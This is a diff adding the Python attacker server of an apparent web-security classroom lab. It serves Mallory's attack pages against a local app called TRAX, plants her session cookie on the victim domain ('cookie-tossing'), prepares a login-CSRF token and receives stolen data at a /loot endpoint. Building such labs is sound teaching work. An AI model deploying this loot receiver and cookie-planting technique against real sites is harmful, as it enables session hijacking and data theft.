@@ -1,0 +1,106 @@
+"""Mallory's server: her pages, and a place to which they bring what they find.
+
+It knows TRAX from outside only: an address, and what anyone may ask there. It answers at this
+machine alone, and keeps no cookie that comes to it. Left out: what a page does (pages/).
+"""
+
+import threading
+from pathlib import Path
+from string import Template
+
+import requests
+from starlette.applications import Starlette
+from starlette.concurrency import run_in_threadpool
+from starlette.middleware import Middleware
+from starlette.requests import Request
+from starlette.responses import JSONResponse, PlainTextResponse, Response
+from starlette.routing import Route
+
+from classroom.exchanges import credentials
+from classroom.server.background import Background
+from classroom.server.network import HOST, listen
+from minisrv.errors import NotFound, Refused
+from minisrv.settings import Settings
+from minisrv.web.trusted_hosts import KnownHosts
+
+PAGES = Path(__file__).with_name("pages")
+TYPES = {".html": "text/html", ".js": "text/javascript"}
+MALLORY = {"email": "mallory@evil.test", "password": "nothing to see here"}
+SECONDS = 10
+KEPT_BYTES = 4096
+
+
+class Attacker:
+    """A server at a free port, whose pages attack the TRAX that answers at `port`."""
+
+    def __init__(self, port: int, cookie: str) -> None:
+        """Start; `cookie` is the name that TRAX gives its session, as anyone can see there."""
+        self.victim = f"http://trax.localhost:{port}"
+        self._api, self._cookie = f"http://{HOST}:{port}/api", cookie
+        self.loot: list[str] = []
+        self.came = threading.Event()  # set once there is loot
+        listener = listen(0)
+        self.port: int = listener.getsockname()[1]
+        settings = Settings(host=HOST, port=self.port)
+        guard = Middleware(KnownHosts, settings=settings, weak=True, refusal=_refusal)
+        routes = [
+            Route("/loot", self._take, methods=["POST"]),
+            Route("/{name}", self._page, methods=["GET"]),
+        ]
+        app = Starlette(routes=routes, middleware=[guard], exception_handlers={Refused: _refused})
+        self._background = Background(app, settings, listener)
+        self._background.start()
+
+    def url(self, host: str, name: str) -> str:
+        """Return the address of one of her pages at a host that is hers, such as evil.localhost."""
+        return f"http://{host}:{self.port}/{name}"
+
+    def stop(self) -> None:
+        """End it and free its port; again is harmless."""
+        self._background.stop()
+
+    async def _page(self, request: Request) -> Response:
+        path = PAGES / request.path_params["name"]
+        if path.parent != PAGES or not path.is_file():
+            raise NotFound
+        places = {"victim": self.victim, "evil": self.url("evil.localhost", "").rstrip("/")}
+        text = Template(path.read_text(encoding="utf-8")).safe_substitute(places)
+        # Whoever loads a script as a module must be allowed to: Mallory allows everybody.
+        headers = {"Cache-Control": "no-store", "Access-Control-Allow-Origin": "*"}
+        response = Response(text, headers=headers, media_type=TYPES[path.suffix])
+        if path.stem in ("cookie-tossing", "login-csrf"):
+            token = await run_in_threadpool(self._own_token)
+            if path.stem == "cookie-tossing":
+                response.set_cookie(
+                    self._cookie, token, domain="trax.localhost", path="/", secure=True
+                )
+        return response
+
+    async def _take(self, request: Request) -> Response:
+        said = (await request.body())[:KEPT_BYTES].decode("utf-8", "replace")
+        self.loot.append("\n".join(map(_of_the_course, said.split("\n"))))
+        self.came.set()
+        return PlainTextResponse("thank you")
+
+    def _own_token(self) -> str:
+        """Return the token of Mallory's own account, which she makes when it is not there yet."""
+        with requests.Session() as session:
+            session.trust_env = False
+            for path in ("signup", "signin"):
+                answer = session.post(f"{self._api}/{path}", json=MALLORY, timeout=SECONDS)
+            return answer.raw.headers.get("set-cookie", "").partition(";")[0].partition("=")[2]
+
+
+def _of_the_course(line: str) -> str:
+    """Return a line of loot, without the cookies in it that are not of the course."""
+    if "=" not in line:
+        return line
+    return "".join(value for _, value in credentials.of_the_course((("cookie", line),)))
+
+
+def _refusal(error: Refused) -> Response:
+    return JSONResponse({"error": error.message}, error.status)
+
+
+async def _refused(request: Request, error: Refused) -> Response:
+    return _refusal(error)
